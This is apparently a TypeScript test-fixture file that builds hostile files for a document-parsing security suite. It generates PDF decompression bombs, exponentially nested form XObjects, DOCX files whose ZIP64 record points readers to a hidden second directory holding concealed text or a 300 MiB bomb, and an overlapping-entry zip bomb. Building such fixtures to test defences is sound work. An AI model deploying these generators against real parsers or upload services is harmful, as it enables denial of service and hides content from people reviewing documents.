/**
 * Generators of hostile originals, the attacks of issue 17 kept as code: PDFs whose streams inflate far
 * beyond their size (one Flate stream, Flate inside Flate, an object stream, one string of millions of
 * characters), forms that draw each other exponentially, and DOCX files whose ZIP64 record leads a ZIP
 * reader to a second, hidden central directory (with hidden text, or with a bomb). Compression goes
 * through `CompressionStream`, so the bridge suite and the edge suite (inside workerd) share them.
 */
import { crc32, makeDocx } from "./document-fixtures";

const encoder = new TextEncoder();
const MIB = 1024 * 1024;

/** Compresses `size` bytes made of `unit` repeated (zlib format for PDFs, raw deflate for ZIPs) without holding them. */
export async function deflateRun(
  unit: string,
  size: number,
  format: "deflate" | "deflate-raw",
  prefix = "",
  suffix = "",
): Promise<Uint8Array> {
  const block = encoder.encode(
    unit.repeat(Math.ceil(Math.min(size, MIB) / unit.length)).slice(0, Math.min(size, MIB)),
  );
  let left = size;
  const source = new ReadableStream<Uint8Array>({
    start(controller) {
      if (prefix) controller.enqueue(encoder.encode(prefix));
    },
    pull(controller) {
      if (left <= 0) {
        if (suffix) controller.enqueue(encoder.encode(suffix));
        controller.close();
        return;
      }
      const part = left >= block.length ? block : block.subarray(0, left);
      left -= part.length;
      // A copy per chunk: the stream may hold on to what it was given.
      controller.enqueue(part.slice());
    },
  });
  return new Uint8Array(
    await new Response(source.pipeThrough(new CompressionStream(format))).arrayBuffer(),
  );
}

/** Compresses bytes in one go. */
export async function deflateBytes(
  bytes: Uint8Array,
  format: "deflate" | "deflate-raw",
): Promise<Uint8Array> {
  const source = new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(bytes.slice());
      controller.close();
    },
  });
  return new Uint8Array(
    await new Response(source.pipeThrough(new CompressionStream(format))).arrayBuffer(),
  );
}

function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let at = 0;
  for (const part of parts) {
    out.set(part, at);
    at += part.length;
  }
  return out;
}

/** A stream object's body: `<< dict /Length n >> stream … endstream`. */
export function pdfStream(dict: string, data: Uint8Array): Uint8Array {
  return concat([
    encoder.encode(`<< ${dict} /Length ${data.length} >>\nstream\n`),
    data,
    encoder.encode("\nendstream"),
  ]);
}

/**
 * A PDF of numbered objects (object n is `objects[n - 1]`) with a classic cross-reference table, or with
 * a cross-reference stream when some objects live in an object stream (`compressed`: object number →
 * [object stream number, index]).
 */
export function pdfFile(
  objects: readonly (string | Uint8Array)[],
  options: { compressed?: Map<number, [number, number]>; version?: string; info?: number } = {},
): Uint8Array {
  const info = options.info ? ` /Info ${options.info} 0 R` : "";
  const parts: Uint8Array[] = [
    encoder.encode(`%PDF-${options.version ?? "1.4"}\n%\xe2\xe3\xcf\xd3\n`),
  ];
  let length = parts[0]?.length ?? 0;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    if (options.compressed?.has(i + 1)) return;
    offsets[i + 1] = length;
    const bytes = concat([
      encoder.encode(`${i + 1} 0 obj\n`),
      typeof body === "string" ? encoder.encode(body) : body,
      encoder.encode("\nendobj\n"),
    ]);
    parts.push(bytes);
    length += bytes.length;
  });
  if (!options.compressed) {
    const table = offsets
      .slice(1)
      .map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`)
      .join("");
    parts.push(
      encoder.encode(
        `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R${info} >>\nstartxref\n${length}\n%%EOF\n`,
      ),
    );
    return concat(parts);
  }
  // A cross-reference stream (PDF 1.5): entries of 1 + 4 + 2 bytes, type 2 for objects in an object stream.
  const size = objects.length + 2;
  const rows = new Uint8Array(size * 7);
  const view = new DataView(rows.buffer);
  for (let n = 1; n < size; n++) {
    const inStream = options.compressed.get(n);
    const row = n * 7;
    if (inStream) {
      rows[row] = 2;
      view.setUint32(row + 1, inStream[0]);
      view.setUint16(row + 5, inStream[1]);
    } else {
      rows[row] = 1;
      view.setUint32(row + 1, n === size - 1 ? length : (offsets[n] ?? 0));
    }
  }
  parts.push(
    concat([
      encoder.encode(`${size - 1} 0 obj\n`),
      pdfStream(`/Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R${info}`, rows),
      encoder.encode("\nendobj\n"),
    ]),
  );
  parts.push(encoder.encode(`startxref\n${length}\n%%EOF\n`));
  return concat(parts);
}

const PAGE_TREE = [
  "<< /Type /Catalog /Pages 2 0 R >>",
  "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
  "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
];
const PAGE = (resources = "") =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> ${resources} >> /Contents 5 0 R >>`;

/** Finding 1: a one-page PDF whose Flate content stream is `BT (<textBytes of "a">) Tj ET` (30 MiB fit in 30 KB). */
export async function flateBombPdf(textBytes = 30 * MIB): Promise<Uint8Array> {
  const content = await deflateRun(
    "a",
    textBytes,
    "deflate",
    "BT /F1 12 Tf 72 700 Td (",
    ") Tj ET",
  );
  return pdfFile([...PAGE_TREE, PAGE(), pdfStream("/Filter /FlateDecode", content)]);
}

/** A content stream compressed `layers` times (`/Filter [/FlateDecode …]`): each layer multiplies the ratio. */
export async function nestedFlatePdf(layers: number, innerBytes = 64 * MIB): Promise<Uint8Array> {
  let data = await deflateRun(
    "0 0 m ",
    innerBytes,
    "deflate",
    "BT /F1 12 Tf 72 700 Td (nested) Tj ET\n",
  );
  for (let i = 1; i < layers; i++) data = await deflateBytes(data, "deflate");
  return pdfFile([
    ...PAGE_TREE,
    PAGE(),
    pdfStream(`/Filter [${"/FlateDecode ".repeat(layers).trim()}]`, data),
  ]);
}

/**
 * An object stream (PDF 1.5) holding the catalog, padded with `padBytes` of whitespace or, with
 * `titleChars`, an info dictionary whose title is one string of that many characters: pdf.js inflates
 * and parses the whole stream to reach the catalog.
 */
export async function objectStreamBombPdf(options: {
  padBytes?: number;
  titleChars?: number;
}): Promise<Uint8Array> {
  const catalog = "<< /Type /Catalog /Pages 2 0 R >>";
  const header = options.titleChars ? `1 0 7 ${catalog.length + 1} ` : "1 0 ";
  const prefix = `${header}${catalog}\n${options.titleChars ? "<< /Title (" : ""}`;
  const data = options.titleChars
    ? await deflateRun("a", options.titleChars, "deflate", prefix, ") >>")
    : await deflateRun(" ", options.padBytes ?? 300 * MIB, "deflate", prefix);
  const objectCount = options.titleChars ? 2 : 1;
  const stream = pdfStream(
    `/Type /ObjStm /N ${objectCount} /First ${header.length} /Filter /FlateDecode`,
    data,
  );
  const compressed = new Map<number, [number, number]>([[1, [6, 0]]]);
  if (options.titleChars) compressed.set(7, [6, 1]);
  const objects: (string | Uint8Array)[] = [
    "",
    PAGE_TREE[1] ?? "",
    PAGE_TREE[2] ?? "",
    PAGE(),
    pdfStream("", encoder.encode("BT /F1 12 Tf 72 700 Td (Hello) Tj ET")),
    stream,
  ];
  if (options.titleChars) objects.push("");
  return pdfFile(objects, {
    compressed,
    version: "1.5",
    ...(options.titleChars ? { info: 7 } : {}),
  });
}

/** `depth` form XObjects, each drawing the next `fanout` times: fanout^(depth - 1) copies of one line of text. */
export async function formFanOutPdf(depth: number, fanout: number): Promise<Uint8Array> {
  const first = 6;
  const forms = Array.from({ length: depth }, (_, level) => {
    const last = level === depth - 1;
    const body = last
      ? "BT /F1 12 Tf 10 10 Td (Every copy of this line is text to extract) Tj ET"
      : `${"/X Do ".repeat(fanout)}`;
    const resources = last ? "/Font << /F1 3 0 R >>" : `/XObject << /X ${first + level + 1} 0 R >>`;
    return pdfStream(
      `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << ${resources} >>`,
      encoder.encode(body),
    );
  });
  const page = PAGE(`/XObject << /X ${first} 0 R >>`);
  return pdfFile([...PAGE_TREE, page, pdfStream("", encoder.encode("/X Do")), ...forms]);
}

interface ZipPart {
  name: string;
  /** What a reader stores: raw bytes (method 0) or raw deflate (method 8). */
  stored: Uint8Array;
  method: 0 | 8;
  crc: number;
  size: number;
}

function part(name: string, text: string): ZipPart {
  const bytes = encoder.encode(text);
  return { name, stored: bytes, method: 0, crc: crc32(bytes), size: bytes.length };
}

function le(values: readonly [number, 2 | 4 | 8][]): Uint8Array {
  const out = new Uint8Array(values.reduce((sum, [, width]) => sum + width, 0));
  const view = new DataView(out.buffer);
  let at = 0;
  for (const [value, width] of values) {
    if (width === 2) view.setUint16(at, value, true);
    else if (width === 4) view.setUint32(at, value, true);
    else view.setBigUint64(at, BigInt(value), true);
    at += width;
  }
  return out;
}

function localHeader(p: ZipPart): Uint8Array {
  const name = encoder.encode(p.name);
  return concat([
    le([
      [0x04034b50, 4],
      [20, 2],
      [0, 2],
      [p.method, 2],
      [0, 4],
      [p.crc, 4],
      [p.stored.length, 4],
      [p.size, 4],
      [name.length, 2],
      [0, 2],
    ]),
    name,
  ]);
}

function centralHeader(p: ZipPart, offset: number): Uint8Array {
  const name = encoder.encode(p.name);
  return concat([
    le([
      [0x02014b50, 4],
      [45, 2],
      [20, 2],
      [0, 2],
      [p.method, 2],
      [0, 4],
      [p.crc, 4],
      [p.stored.length, 4],
      [p.size, 4],
      [name.length, 2],
      [0, 2],
      [0, 2],
      [0, 2],
      [0, 2],
      [0, 4],
      [offset, 4],
    ]),
    name,
  ]);
}

const DOCX_SHELL = ["[Content_Types].xml", "_rels/.rels"] as const;

/** The parts of a one-paragraph DOCX, from the plain fixture. */
function docxParts(text: string): Map<string, string> {
  const zip = makeDocx([{ text }]);
  const parts = new Map<string, string>();
  // makeDocx stores its parts uncompressed; read them back from the local headers.
  const view = new DataView(zip.buffer, zip.byteOffset, zip.byteLength);
  for (let at = 0; view.getUint32(at, true) === 0x04034b50;) {
    const size = view.getUint32(at + 18, true);
    const nameLength = view.getUint16(at + 26, true);
    const name = new TextDecoder().decode(zip.subarray(at + 30, at + 30 + nameLength));
    parts.set(
      name,
      new TextDecoder().decode(zip.subarray(at + 30 + nameLength, at + 30 + nameLength + size)),
    );
    at += 30 + nameLength + size;
  }
  return parts;
}

/**
 * Finding 2: a ZIP whose 32-bit end record names a directory of `visible` parts, with its directory size
 * set to 0xFFFFFFFF so that a ZIP64-aware reader follows the ZIP64 record to a second directory of
 * `hidden` parts, stored in the same file and listed nowhere else.
 */
export function zip64HiddenDirectory(
  visible: readonly ZipPart[],
  hidden: readonly ZipPart[],
): Uint8Array {
  const parts: Uint8Array[] = [];
  let length = 0;
  const push = (bytes: Uint8Array) => {
    parts.push(bytes);
    length += bytes.length;
  };
  const place = (list: readonly ZipPart[]) =>
    list.map((p) => {
      const offset = length;
      push(localHeader(p));
      push(p.stored);
      return offset;
    });
  const visibleOffsets = place(visible);
  const hiddenOffsets = place(hidden);
  const visibleDirectory = length;
  visible.forEach((p, i) => push(centralHeader(p, visibleOffsets[i] ?? 0)));
  const hiddenDirectory = length;
  hidden.forEach((p, i) => push(centralHeader(p, hiddenOffsets[i] ?? 0)));
  const hiddenSize = length - hiddenDirectory;
  const zip64End = length;
  push(
    le([
      [0x06064b50, 4],
      [44, 8],
      [45, 2],
      [45, 2],
      [0, 4],
      [0, 4],
      [hidden.length, 8],
      [hidden.length, 8],
      [hiddenSize, 8],
      [hiddenDirectory, 8],
    ]),
  );
  push(
    le([
      [0x07064b50, 4],
      [0, 4],
      [zip64End, 8],
      [1, 4],
    ]),
  );
  push(
    le([
      [0x06054b50, 4],
      [0, 2],
      [0, 2],
      [visible.length, 2],
      [visible.length, 2],
      [0xffffffff, 4],
      [visibleDirectory, 4],
      [0, 2],
    ]),
  );
  return concat(parts);
}

/** A DOCX that shows `visibleText` to a 32-bit reader and `hiddenText` to mammoth (finding 2, 1.4 KB). */
export function zip64HiddenTextDocx(visibleText: string, hiddenText: string): Uint8Array {
  const named = (text: string) => [...docxParts(text)].map(([name, body]) => part(name, body));
  return zip64HiddenDirectory(named(visibleText), named(hiddenText));
}

/** A small, valid-looking DOCX hiding a `word/document.xml` that inflates to `inflatedBytes` (finding 2's bomb). */
export async function zip64BombDocx(inflatedBytes = 300 * MIB): Promise<Uint8Array> {
  const shell = docxParts("A harmless page.");
  const visible = [...shell].map(([name, body]) => part(name, body));
  const open =
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>';
  const close = "</w:t></w:r></w:p></w:body></w:document>";
  const bomb = await deflateRun("a", inflatedBytes, "deflate-raw", open, close);
  // The CRC is left 0: computing it over hundreds of MB would only slow the test, and no reader got that far.
  const document = {
    name: "word/document.xml",
    stored: bomb,
    method: 8 as const,
    crc: 0,
    size: open.length + inflatedBytes + close.length,
  };
  const hidden = [...DOCX_SHELL.map((name) => part(name, shell.get(name) ?? "")), document];
  return zip64HiddenDirectory(visible, hidden);
}

/**
 * A ZIP in which one part's bytes contain another part: the second entry's local header sits inside the
 * first entry's data, so the same bytes are read twice (how non-recursive zip bombs multiply).
 */
export function overlappingEntriesZip(): Uint8Array {
  const inner = part("word/document.xml", "<w:document/>");
  const innerLocal = concat([localHeader(inner), inner.stored]);
  const outer = part("[Content_Types].xml", "");
  const outerPart: ZipPart = {
    ...outer,
    stored: innerLocal,
    crc: crc32(innerLocal),
    size: innerLocal.length,
  };
  const outerLocal = localHeader(outerPart);
  const files = concat([outerLocal, innerLocal]);
  const directory = concat([centralHeader(outerPart, 0), centralHeader(inner, outerLocal.length)]);
  return concat([
    files,
    directory,
    le([
      [0x06054b50, 4],
      [0, 2],
      [0, 2],
      [2, 2],
      [2, 2],
      [directory.length, 4],
      [files.length, 4],
      [0, 2],
    ]),
  ]);
}
